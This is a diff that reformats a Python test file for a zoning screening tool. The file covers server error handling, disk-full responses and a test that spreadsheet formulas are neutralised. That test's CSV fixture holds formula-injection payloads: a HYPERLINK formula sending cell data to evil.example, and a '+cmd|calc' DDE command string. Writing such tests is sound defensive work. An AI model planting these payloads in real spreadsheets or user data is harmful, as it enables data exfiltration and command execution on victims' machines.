@@ -148,11 +148,14 @@ def test_no_formula_reaches_a_spreadsheet(tmp_path):
     from zoning.screen import ScreenOptions, screen
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
     lst = tmp_path / "list.csv"
-    lst.write_text("编号,项目名称,项目类型,wkt\n"
-                   f'A,"{evil.replace(chr(34), chr(34) * 2)}",工业,"POLYGON((113.05 27.95,113.051 27.95,113.051 27.951,113.05 27.95))"\n'
-                   'B,+cmd|calc,工业,"POLYGON((113.06 27.95,113.061 27.95,113.061 27.951,113.06 27.95))"\n'
-                   'C,-3.5,工业,"POLYGON((113.07 27.95,113.071 27.95,113.071 27.951,113.07 27.95))"\n',
-                   encoding="utf-8")
+    lst.write_text(
+        "编号,项目名称,项目类型,wkt\n"
+        f'A,"{evil.replace(chr(34), chr(34) * 2)}",工业,'
+        '"POLYGON((113.05 27.95,113.051 27.95,113.051 27.951,113.05 27.95))"\n'
+        'B,+cmd|calc,工业,"POLYGON((113.06 27.95,113.061 27.95,113.061 27.951,113.06 27.95))"\n'
+        'C,-3.5,工业,"POLYGON((113.07 27.95,113.071 27.95,113.071 27.951,113.07 27.95))"\n',
+        encoding="utf-8",
+    )
     out = tmp_path / "out.xlsx"
     screen(lst, out, ScreenOptions(quiet=True, workers=1, date=DATE))
     csv_out = tmp_path / "out.csv"
@@ -233,9 +236,23 @@ def test_bad_requests_are_4xx_and_the_connection_stays_usable(tmp_path):
     request on the same connection afterwards succeeds."""
     import httpx
     port = _free_port()
-    server = subprocess.Popen([sys.executable, "-m", "zoning", "serve", "--no-auth", "--port", str(port), "--workers", "0",
-                               "--db", str(tmp_path / "r.sqlite")], stdout=subprocess.DEVNULL,
-                              stderr=subprocess.DEVNULL)
+    server = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "zoning",
+            "serve",
+            "--no-auth",
+            "--port",
+            str(port),
+            "--workers",
+            "0",
+            "--db",
+            str(tmp_path / "r.sqlite"),
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     url = f"http://127.0.0.1:{port}"
     try:
         _wait(url)
@@ -345,7 +362,9 @@ def test_a_full_disk_says_so_and_files_nothing(tmp_path, monkeypatch):
         monkeypatch.setattr(reg, "add", full)
         r = c.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE})
         assert r.status_code == 507 and "磁盘已满" in r.json()["error"] and "disk is full" in r.json()["error"]
-        page = c.post("/check", data={"category": "commercial", "coords": "113.05,27.95\n113.051,27.95\n113.051,27.951"})
+        page = c.post(
+            "/check", data={"category": "commercial", "coords": "113.05,27.95\n113.051,27.95\n113.051,27.951"}
+        )
         assert page.status_code == 507 and "磁盘已满" in page.text
     monkeypatch.undo()
     assert reg.count() == 0
